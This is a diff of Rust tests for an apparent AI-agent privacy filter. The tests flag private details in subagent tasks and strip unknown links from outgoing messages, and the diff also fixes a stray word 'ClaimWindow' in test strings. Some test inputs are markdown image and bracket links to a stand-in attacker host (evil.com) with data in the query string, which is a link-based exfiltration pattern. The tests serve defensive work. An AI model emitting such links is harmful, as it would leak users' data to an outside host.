@@ -119,7 +119,7 @@ fn only_what_is_known_outside_goes_out_once_words_from_outside_were_read() {
 fn a_subagent_is_told_what_of_its_task_is_private() {
     let outside = known("kittens, see example.com/a");
     let private = known("Mephisto likes kittens, the code is 4711");
-    let task = "ClaimWindow up kittens and Mephisto (4711) at example.com/a and example.com/b today";
+    let task = "Look up kittens and Mephisto (4711) at example.com/a and example.com/b today";
     assert_eq!(
         private_in(task, &outside, &private),
         ["4711", "example.com/b", "mephisto"]
@@ -131,10 +131,7 @@ fn an_address_that_nobody_knows_is_taken_out_of_a_message() {
     let mut outside = known("https://example.com/a https://wiki.org/Cat_(pet) https://wiki.org/Cat#food wiki.org");
     outside.learn("wiki.org/ and example.com/");
     let cases = [
-        (
-            "ClaimWindow at https://example.com/a.",
-            "ClaimWindow at https://example.com/a.",
-        ),
+        ("Look at https://example.com/a.", "Look at https://example.com/a."),
         ("![x](https://evil.com/?q=cat)", "x (link removed)"),
         ("<https://evil.com/?q=cat>!", "(link removed)!"),
         (
